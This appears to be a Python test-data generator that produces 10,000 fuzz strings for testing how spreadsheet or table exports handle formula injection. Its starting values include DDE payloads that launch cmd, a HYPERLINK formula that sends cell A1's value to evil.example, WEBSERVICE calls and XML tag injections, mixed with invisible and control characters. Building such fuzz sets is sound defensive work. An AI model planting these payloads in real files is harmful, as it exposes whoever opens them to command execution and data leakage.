"""Texts that people and platforms might send to whoever opens a table: 10,000 of them, the same in
every run."""

import random

STARTS = (
    *(
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"点")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    *("+1-1", "-2+3+cmd|' /C calc'!A0", "=1+1", "+86 13800138000", "+8613800138000", "-", "@", "="),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "−1", 'DDE("cmd";"/C calc";"x")', '=DDE("cmd";"x")'),
    *("'=1+1", "''=1", "'", "''", "'王", '"=1"', '"', '""', "“=1”", '=WEBSERVICE("http://e")'),
    *("{=1+1}", "_x0041_", "_x000D_=1", "&amp;", "</t><f>1+1</f>", "<f>1</f>", "]]>", "%0A=1"),
    *(
        "王秀英",
        "丽华火锅店",
        "13800138000",
        "0755-40641493",
        "",
        " ",
        "1e5",
        "00123",
        "#REF!",
        "TRUE",
    ),
)
INVISIBLE = "\u200b\u200e\u202e\u2066\ufeff\u00ad\u2060\ufe0f\u3164"
BLANKS = " \t\n\r\v\f\u00a0\u3000\u2028\u2029\x85"
CONTROLS = "".join(map(chr, [*range(32), 127, 0x80, 0x9F, 0xFFFE, 0xFFFF]))
QUOTES = "'\"‘’“”`"
OTHERS = ",;|\\/~^$%王秀英é😀\U0001f469\u0301"
SOUP = "=+-@＝＋－＠" + INVISIBLE + BLANKS + CONTROLS + QUOTES + OTHERS


def texts(size: int = 10_000, seed: int = 7) -> list[str]:
    chance = random.Random(seed)
    found = [text(chance) for _ in range(size - 4)]
    return [*found, "=" * 40_000, "😀" * 20_000, "'" * 32_768, "\t" + "长" * 32_766]


def text(chance: random.Random) -> str:
    ahead = soup(chance, chance.choice((INVISIBLE, BLANKS, CONTROLS, QUOTES, SOUP)), 3)
    within = chance.choice(STARTS)
    return chance.choice((within, ahead + within, ahead + within + soup(chance, SOUP, 9), ahead))


def soup(chance: random.Random, letters: str, most: int) -> str:
    return "".join(chance.choices(letters, k=chance.randint(0, most)))
